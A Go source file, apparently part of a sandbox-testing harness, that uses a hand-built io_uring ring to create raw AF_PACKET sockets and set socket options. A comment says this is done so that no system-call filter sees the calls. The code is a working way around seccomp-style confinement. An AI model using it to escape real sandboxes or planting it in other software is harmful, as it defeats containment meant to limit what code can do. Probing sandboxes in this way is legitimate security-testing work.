package escape

import (
	"encoding/binary"
	"runtime"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Of linux/io_uring.h.
const (
	uringOpSocket     = 45 // since Linux 5.19
	uringOpCmd        = 46
	uringCmdSetsocket = 3 // SOCKET_URING_OP_SETSOCKOPT, since Linux 6.7
)

// uring is a ring of one entry, to make calls that no filter of system calls sees.
type uring struct {
	fd       int
	sq, sqes []byte
	cq       []byte
	// struct io_sqring_offsets and io_cqring_offsets, from byte 40 of struct
	// io_uring_params on
	params [120]byte
}

func (u *uring) offset(at int) uint32 { return binary.NativeEndian.Uint32(u.params[at:]) }

func newRing() (*uring, error) {
	u := &uring{}
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&u.params)), 0)
	if e != 0 {
		return nil, call("io_uring_setup", e)
	}
	u.fd = int(fd)
	var err error
	for _, m := range []struct {
		b      *[]byte
		offset int64
	}{{&u.sq, 0}, {&u.cq, 0x8000000}, {&u.sqes, 0x10000000}} {
		if *m.b, err = unix.Mmap(u.fd, m.offset, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
			u.Close()
			return nil, call("mmap", err)
		}
	}
	return u, nil
}

func (u *uring) Close() {
	for _, b := range [][]byte{u.sq, u.cq, u.sqes} {
		if b != nil {
			_ = unix.Munmap(b)
		}
	}
	unix.Close(u.fd)
}

// do makes one call; fill writes its entry, of 64 bytes.
func (u *uring) do(name string, fill func(sqe []byte)) (int, error) {
	clear(u.sqes[:64])
	fill(u.sqes[:64])
	tail := (*uint32)(unsafe.Pointer(&u.sq[u.offset(44)]))
	binary.NativeEndian.PutUint32(u.sq[u.offset(64):], 0) // the array of indices
	atomic.AddUint32(tail, 1)
	const getEvents = 1
	if _, _, e := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(u.fd), 1, 1, getEvents, 0, 0); e != 0 {
		return 0, call("io_uring_enter", e)
	}
	// two entries of the completion queue, of 16 bytes: data, result, flags
	head := (*uint32)(unsafe.Pointer(&u.cq[u.offset(80)]))
	at := u.offset(100) + 16*(atomic.LoadUint32(head)&1)
	res := int32(binary.NativeEndian.Uint32(u.cq[at+8:]))
	atomic.AddUint32(head, 1)
	if res < 0 {
		return 0, call(name+" by io_uring", unix.Errno(-res))
	}
	return int(res), nil
}

func (u *uring) setsockopt(name string, fd, level, opt int, value uint32) error {
	v := new(uint32)
	*v = value
	_, err := u.do("setsockopt "+name, func(e []byte) {
		e[0] = uringOpCmd
		put := binary.NativeEndian.PutUint32
		put(e[4:], uint32(fd))
		put(e[8:], uringCmdSetsocket)
		put(e[16:], uint32(level))
		put(e[20:], uint32(opt))
		put(e[44:], 4)
		binary.NativeEndian.PutUint64(e[48:], uint64(uintptr(unsafe.Pointer(v))))
	})
	runtime.KeepAlive(v)
	return err
}

func ringPriority(s *stage) error {
	u, err := newRing()
	if err != nil {
		return err
	}
	defer u.Close()
	return s.udp(false, func(fd int) error {
		return u.setsockopt("SO_PRIORITY", fd, unix.SOL_SOCKET, unix.SO_PRIORITY, uint32(s.Other))
	})
}

// ringPacket makes its socket by io_uring.
func ringPacket(s *stage) error {
	u, err := newRing()
	if err != nil {
		return err
	}
	defer u.Close()
	fd, err := u.do("socket AF_PACKET", func(e []byte) {
		e[0] = uringOpSocket
		binary.NativeEndian.PutUint32(e[4:], unix.AF_PACKET)
		binary.NativeEndian.PutUint64(e[8:], unix.SOCK_RAW)
	})
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return s.frames(fd, unix.AF_PACKET, unix.SOCK_RAW)
}

func ringBypass(s *stage) error {
	u, err := newRing()
	if err != nil {
		return err
	}
	defer u.Close()
	return s.packets(unix.AF_PACKET, unix.SOCK_RAW, func(fd int) error {
		return u.setsockopt("PACKET_QDISC_BYPASS", fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1)
	})
}
